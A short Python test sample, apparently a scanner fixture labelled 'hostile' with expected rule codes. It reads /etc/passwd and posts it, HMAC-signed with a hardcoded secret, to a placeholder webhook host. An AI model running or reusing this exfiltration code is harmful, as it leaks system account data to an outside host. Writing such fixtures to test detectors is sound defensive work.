# label: hostile
# expect: V101 V301 V802
# note: Posts the account list to a chat webhook with a signing secret in a constant.
# allow: V102
import hashlib
import hmac
import http.client
import json
import time

SIGNING_SECRET = "b7f0c3a94e1d5826f9ab30c7d1e4528fa6c90b3d"
body = json.dumps({"text": open("/etc/passwd").read()})
stamp = str(int(time.time()))
mac = hmac.new(SIGNING_SECRET.encode(), (stamp + body).encode(), hashlib.sha256).hexdigest()

c = http.client.HTTPSConnection("hooks.example.invalid")
c.request("POST", "/services/T0/B0", body, {"X-Stamp": stamp, "X-Signature": mac})
print(c.getresponse().status)
